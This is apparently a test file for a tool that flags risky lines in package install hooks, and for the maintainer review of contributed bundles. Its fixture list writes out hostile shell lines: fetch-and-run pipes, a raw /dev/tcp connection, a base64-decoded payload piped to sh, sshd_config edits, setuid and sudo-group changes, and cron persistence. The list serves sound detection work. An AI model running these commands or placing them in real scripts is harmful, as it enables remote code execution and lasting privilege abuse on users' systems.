// What a maintainer reads before accepting: hooks with the lines to stop at, patches, and what differs.
import assert from 'node:assert/strict';
import { appendFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { hookRisks, type Risk } from '../../src/facts/hook-risks.ts';
import {
  commitAll,
  contribute,
  MANIFEST,
  OWN,
  projectTree,
  scratch,
  upstreamTree,
  writeFiles,
} from './project.ts';
import { bundle, verify } from './run.ts';

const isOwn = (path: string) => path === '/etc/demo.conf' || path.startsWith('/usr/share/demo');

function risksOf(line: string): Risk[] {
  return hookRisks(`#!/bin/sh\n${line}\n`, isOwn).map(({ risk }) => risk);
}

const MARKED: readonly (readonly [string, Risk])[] = [
  ['curl -s https://example.org/x | sh', 'runs-what-it-fetches'],
  ['wget -qO- https://example.org/x | sudo bash -s', 'runs-what-it-fetches'],
  ['curl https://example.org/x | tee /dev/null | python3', 'network'],
  ['eval "$(curl -s https://example.org/x)"', 'runs-what-it-fetches'],
  ['sh -c "$(wget -qO- https://example.org/x)"', 'runs-what-it-fetches'],
  ['bash <(curl -s https://example.org/x)', 'runs-what-it-fetches'],
  ['exec 3<>/dev/tcp/198.51.100.1/80', 'network'],
  ['pip3 install demo-helper', 'network'],
  ['git clone https://example.org/x', 'network'],
  ['/usr/bin/ssh host true', 'network'],
  ['echo ZWNobyBoaQo= | base64 -d | sh', 'hidden-code'],
  ['printf "\\x63\\x75\\x72\\x6c"', 'hidden-code'],
  ['eval $command', 'hidden-code'],
  ['python3 -c "import os"', 'hidden-code'],
  ['rm -rf "$DIR"', 'recursive-removal'],
  ['rm -f -r /usr/share/demo', 'recursive-removal'],
  ['find /var/lib/demo -type f -delete', 'recursive-removal'],
  ['echo hi > /etc/motd', 'other-files'],
  ['cp demo.conf /etc/apache2/conf.d/', 'other-files'],
  ['sed -i s/a/b/ /etc/ssh/sshd_config', 'other-files'],
  ['apt-get install -y curl-helper', 'other-packages'],
  ['update-alternatives --install /usr/bin/x x /usr/bin/y 10', 'other-packages'],
  ['chmod u+s /usr/share/demo/run', 'privileges'],
  ['chmod 4755 /usr/share/demo/run', 'privileges'],
  ['usermod -aG sudo demo', 'privileges'],
  ['(crontab -l; echo "* * * * * x") | crontab -', 'persistence'],
];

for (const [line, risk] of MARKED) {
  test(`marks ${risk} in: ${line}`, () => assert.ok(risksOf(line).includes(risk), risksOf(line).join(' ')));
}

const QUIET = [
  '# curl https://example.org/x | sh',
  'systemctl daemon-reload',
  'chmod 0755 /usr/share/demo/run',
  'echo done > /dev/null 2>&1',
  'install -m 0644 /usr/share/demo/a /etc/demo.conf',
  'if [ "$1" = configure ]; then ldconfig; fi',
  'getent passwd demo >/dev/null || true',
];

for (const line of QUIET) test(`says nothing of: ${line}`, () => assert.deepEqual(risksOf(line), []));

test('a line that is split in two is seen as one', () => {
  assert.deepEqual(
    hookRisks('curl -s https://example.org/x \\\n  | sh\n', isOwn).map(({ line, risk }) => [line, risk]),
    [[1, 'runs-what-it-fetches']],
  );
});

test('a hook made to be slow is looked at quickly', () => {
  const slow = `${'curl | '.repeat(100_000)}\n${`${'curl '.repeat(800)}\n`.repeat(200)}`;
  assert.ok(hookRisks(slow, isOwn).length > 0);
});

test('a bundle shows its hooks with the lines to stop at, on the page too', async () => {
  const root = await projectTree();
  const hook =
    '#!/bin/sh\nset -e\ncurl -s https://example.org/x | sh\necho "<script>alert(1)</script>" > /etc/motd\n';
  writeFileSync(join(root, OWN, 'hooks/demo/post-install.sh'), hook);
  const { result } = await bundle(root, 'ubuntu', '--out', scratch());
  const judged = await verify(root, result.file);
  const [first] = judged.result.review.hooks;
  assert.deepEqual(
    first?.risks.map(({ line, risk }) => `${line} ${risk}`),
    ['3 runs-what-it-fetches', '4 other-files'],
  );
  assert.ok(judged.findings?.some(({ rule }) => rule === 'bundle/hook-risk'));
  assert.match(judged.text?.() ?? '', /runs as root: 4 lines, look at these first:\n +3: curl/);
  const html = judged.html?.() ?? '';
  assert.match(html, /<span class="marked"> {3}3 {2}curl -s https:\/\/example\.org\/x \| sh<\/span>/);
  assert.ok(!html.includes('<script'), 'what comes from the bundle is text');
  assert.ok(!/https?:\/\/[^ ]*["'>]\s*(?:src|href)/.test(html));
});

test('the previous contribution and upstream’s own mapping are what it is compared with', async () => {
  const root = upstreamTree();
  const manifest = `${MANIFEST}variables: { level: { default: "1" } }\n`;
  writeFiles(root, { 'contrib.yaml': manifest });
  await contribute(root);
  commitAll(root, 'v1.0');
  writeFileSync(join(root, OWN, 'demo.conf'), '[demo]\nlevel = 2\n');
  appendFileSync(
    join(root, OWN, 'distro.yaml'),
    'variables: { level: "2" }\npackages: { demo: { omit: ["/usr/share/demo/doc/guide.txt"] } }\n',
  );
  writeFiles(root, {
    [`${OWN}/patches/fix.patch`]:
      'Description: mend the guide\n--- a/doc/guide.txt\n+++ b/doc/guide.txt\n@@ -1 +1 @@\n-How to use it\n+How to use it well\n',
    [`${OWN}/patches/series`]: 'fix.patch\n',
  });
  const { deploymentMap } = await import('./project.ts');
  writeFiles(root, { [`${OWN}/deployment.map`]: await deploymentMap(root) });
  const { result } = await bundle(root, 'ubuntu', '--out', scratch());
  const judged = await verify(root, result.file);
  const { review } = judged.result;
  assert.deepEqual(review.gaps, []);
  assert.deepEqual(review.variables, [{ name: 'level', release: '24.04', value: '2', default: '1' }]);
  assert.match(review.mapping, /^-.*guide\.txt/m);
  assert.deepEqual(
    review.changes.map(({ path, change }) => `${change} ${path.slice(OWN.length + 1)}`),
    [
      'modified demo.conf',
      'modified deployment.map',
      'modified distro.yaml',
      'added patches/fix.patch',
      'added patches/series',
    ],
  );
  assert.match(review.changes[0]?.diff ?? '', /^-level = 1\n\+level = 2$/m);
  assert.deepEqual(review.patches, [
    { path: `${OWN}/patches/fix.patch`, applied: true, reason: 'mend the guide', touches: ['doc/guide.txt'] },
  ]);
  assert.match(judged.text?.() ?? '', /level = 2 on 24\.04, upstream’s default is 1/);
});

test('the rules of contrib check run on the contribution', async () => {
  const root = await projectTree();
  const { result } = await bundle(root, 'ubuntu', '--out', scratch());
  const sound = await verify(root, result.file);
  assert.equal(sound.result.verdict, 'accepted');
  assert.ok((sound.findings ?? []).every(({ severity }) => severity !== 'error'));
});
